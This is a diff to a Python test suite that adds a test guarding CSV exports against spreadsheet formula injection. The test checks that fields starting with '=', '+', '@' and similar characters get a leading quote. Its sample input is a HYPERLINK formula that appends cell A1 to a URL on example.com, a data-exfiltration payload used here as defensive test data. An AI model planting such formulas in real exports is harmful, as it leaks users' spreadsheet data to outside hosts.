@@ -229,7 +229,7 @@ def test_csv_and_parquet_give_back_texts_and_labels_as_they_are(given_texts: lis
 
     def read_csv(path: Path) -> list[tuple[str, str]]:
         with path.open(newline="", encoding="utf-8") as file:
-            return [(row["text"], row["label"]) for row in csv.DictReader(file)]
+            return [(row["text"].removeprefix("'"), row["label"].removeprefix("'")) for row in csv.DictReader(file)]
 
     def read_parquet(path: Path) -> list[tuple[str, str]]:
         with duckdb.connect() as database:
@@ -240,6 +240,16 @@ def test_csv_and_parquet_give_back_texts_and_labels_as_they_are(given_texts: lis
     from_parquet, _ = export("parquet", lines, read_parquet)
 
     assert from_csv == from_parquet == given_texts
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "'", "＝", "＋", "－", "＠"])
+def test_a_spreadsheet_program_sees_no_formula_in_a_csv_file(first: str) -> None:
+    formula = f'{first}HYPERLINK("https://example.com/?"&A1,"x")'
+    line = {"source": formula, "kind": 0, "kind-metadata": meta("text-classification", confidence=0.75, **{"class-name": formula})}
+
+    rows, _ = export("csv", [line], lambda path: list(csv.DictReader(io.StringIO(path.read_bytes().decode(), newline=""))))
+
+    assert [(row["text"], row["label"], row["confidence"]) for row in rows] == [(f"'{formula}", f"'{formula}", "0.75")]
 
 
 def test_a_table_of_boxes_has_a_row_a_box_and_one_for_a_picture_without() -> None:
